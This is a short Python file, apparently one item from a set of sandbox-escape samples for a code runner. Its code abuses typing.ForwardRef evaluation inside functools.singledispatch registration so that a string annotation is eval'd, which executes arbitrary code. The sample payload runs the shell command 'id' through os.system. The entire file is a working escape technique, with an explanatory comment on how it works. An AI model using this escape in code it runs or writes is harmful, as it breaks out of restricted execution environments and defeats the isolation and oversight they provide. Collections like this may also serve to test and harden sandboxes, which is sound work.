# family: runner
# Escape: typing.get_args(typing.Optional[TEXT])[0] is a typing.ForwardRef built from a variable; stored as a
# class attribute and used as an annotation, register's get_type_hints calls its _evaluate, i.e. eval(TEXT).
import functools
import typing

TEXT = "exec(CODE) or int"
CODE = "import os\nos.system('id')"


class Refs:
    FIRST = typing.get_args(typing.Optional[TEXT])[0]


@functools.singledispatch
def handle(value):
    return value


@handle.register
def _(value: Refs.FIRST):
    return value


def tool(x):
    return handle(x)
